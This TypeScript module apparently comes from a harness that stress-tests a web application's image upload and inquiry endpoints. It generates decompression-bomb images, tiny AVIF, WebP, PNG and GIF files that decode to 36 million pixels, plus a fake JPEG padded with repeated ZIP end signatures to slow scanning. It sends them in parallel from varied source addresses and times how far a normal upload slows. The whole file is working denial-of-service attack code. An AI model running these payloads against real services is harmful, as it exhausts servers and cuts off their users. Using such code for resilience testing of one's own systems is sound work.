// Images that are small to send and large when decoded, and a file that is slow to scan.
import { setTimeout as pause } from 'node:timers/promises'
import { send, multipartType, inParallel, multipart, type Attack, type Target } from './target.ts'

const side = 6000
/** An image of one colour, by default with 36 million pixels: a few kilobytes in each format. */
async function largeImage(format: 'avif' | 'webp' | 'png' | 'gif', length = side): Promise<Buffer> {
  const { default: sharp } = await import('sharp')
  const plain = sharp({ create: { width: length, height: length, channels: 3, background: '#0b645e' } })
  if (format === 'avif') return plain.avif({ effort: 0, quality: 1 }).toBuffer()
  if (format === 'webp') return plain.webp({ effort: 0, quality: 1 }).toBuffer()
  if (format === 'png') return plain.png({ palette: true, colours: 2, compressionLevel: 9 }).toBuffer()
  return plain.gif({ colours: 2, effort: 1 }).toBuffer()
}
/** Begins like a JPEG and then repeats the signature at the end of a ZIP file. */
function zipEndings(): Buffer {
  const bytes = Buffer.alloc(9_900_000, 'PK\x05\x06', 'latin1')
  bytes.write('\xff\xd8\xff\xe1', 'latin1')
  return bytes
}
const sendPhoto = (site: Target, picture: Buffer, from: string, signal: AbortSignal) =>
  send(site, {
    path: '/org/myinfo_photo',
    body: multipart({}, 'man_photo', [['a', picture]]),
    type: multipartType,
    token: site.token ?? undefined,
    from,
    signal,
  })
/** Inquiries from six addresses with five images each that are slow to decode, while the account uploads a photo. */
const strangerInquiries: Attack = {
  name: '6 inquiries of strangers with 5 AVIF each, and a photo of the account',
  topic: 'pictures',
  requires: 'a token',
  async prepare(site) {
    const [large, small] = [await largeImage('avif', 2_200), await largeImage('png', 200)]
    const alone = await timed(() => sendPhoto(site, small, '127.0.17.1', AbortSignal.timeout(10_000)))
    return async (tally, signal) => {
      const stop = new AbortController()
      const leaving = AbortSignal.any([signal, stop.signal])
      const inquiries = inParallel(6, async (at) => {
        const fields = {
          name: 'Attack',
          email: `attack-${at}@nowhere.example`,
          mobile: '010-5555-0177',
          country_code: '82',
          content: 'Look at this.',
        }
        const body = multipart(
          fields,
          'fileup',
          ['1', '2', '3', '4', '5'].map((name) => [name, large]),
        )
        const from = `127.0.16.${at + 1}`
        tally.add(
          (await send(site, { path: '/etc/regi_question_sys', body, type: multipartType, from, signal: leaving }))
            .outcome,
        )
      })
      await pause(500, undefined, { signal })
      const beside = await timed(() => sendPhoto(site, small, '127.0.17.2', signal))
      tally.add(beside.answer.outcome)
      stop.abort()
      await inquiries
      return `the photo took ${beside.ms.toFixed(0)} ms, alone ${alone.ms.toFixed(0)} ms`
    }
  },
}
async function timed<T>(work: () => Promise<T>): Promise<{ answer: T; ms: number }> {
  const begun = performance.now()
  const answer = await work()
  return { answer, ms: performance.now() - begun }
}
const attack = (name: string, count: number, net: number, make: () => Buffer | Promise<Buffer>): Attack => ({
  name,
  topic: 'pictures',
  requires: 'a token',
  async prepare(site) {
    const picture = await make()
    return async (tally, signal) => {
      await inParallel(count, async (at) =>
        tally.add((await sendPhoto(site, picture, `127.0.${net}.${at + 1}`, signal)).outcome),
      )
      return `${(picture.length / 1000).toFixed(1)} kB each`
    }
  },
})

export const imageAttacks: Attack[] = [
  ...(['avif', 'webp', 'png', 'gif'] as const).map((format, at) =>
    attack(`10 ${format.toUpperCase()} of ${side} × ${side} at once`, 10, 10 + at, () => largeImage(format)),
  ),
  attack('a picture of 9.9 MB of ZIP ends', 1, 15, zipEndings),
  strangerInquiries,
]
